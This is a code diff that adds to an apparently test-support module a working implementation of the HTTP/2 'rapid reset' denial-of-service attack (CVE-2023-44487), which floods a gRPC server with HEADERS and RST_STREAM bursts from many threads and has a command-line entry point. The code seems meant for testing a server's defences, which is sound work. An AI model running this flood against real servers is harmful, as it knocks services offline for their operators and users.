@@ -14,6 +14,7 @@ from __future__ import annotations
 import contextlib
 import socket
 import struct
+import sys
 import threading
 import time
 from dataclasses import dataclass, field
@@ -186,3 +187,47 @@ class Connection:
         finally:
             self.closed_at = time.monotonic()
             self._got_settings.set()
+
+
+def flood_resets(port: int, seconds: float, connections: int) -> int:
+    """Open and at once reset streams on ``connections`` connections for ``seconds``.
+
+    The "rapid reset" of CVE-2023-44487: each stream is a request's HEADERS
+    followed by RST_STREAM(CANCEL), a hundred to a write, so the server sees a
+    new call and its cancellation before it can have answered. Returns how
+    many streams were opened.
+    """
+    conns = [Connection.open(port) for _ in range(connections)]
+    block = grpc_headers("/grpc.health.v1.Health/Check")
+    end = time.monotonic() + seconds
+    counts = [0] * connections
+
+    def run(i: int) -> None:
+        conn = conns[i]
+        while time.monotonic() < end and conn.alive():
+            burst = bytearray()
+            for _ in range(100):
+                stream, conn.next_stream = conn.next_stream, conn.next_stream + 2
+                burst += frame(HEADERS, END_HEADERS, stream, block)
+                burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
+            try:
+                conn.send(bytes(burst))
+            except OSError:
+                return
+            counts[i] += 100
+
+    threads = [threading.Thread(target=run, args=(i,)) for i in range(connections)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    for conn in conns:
+        conn.close()
+    return sum(counts)
+
+
+if __name__ == "__main__":
+    # A separate process, as an abuser would be: flooding from a thread of the
+    # test process would slow the server under test by holding its GIL.
+    # Usage: _h2raw.py PORT SECONDS CONNECTIONS; prints the streams opened.
+    print(flood_resets(int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3])), flush=True)
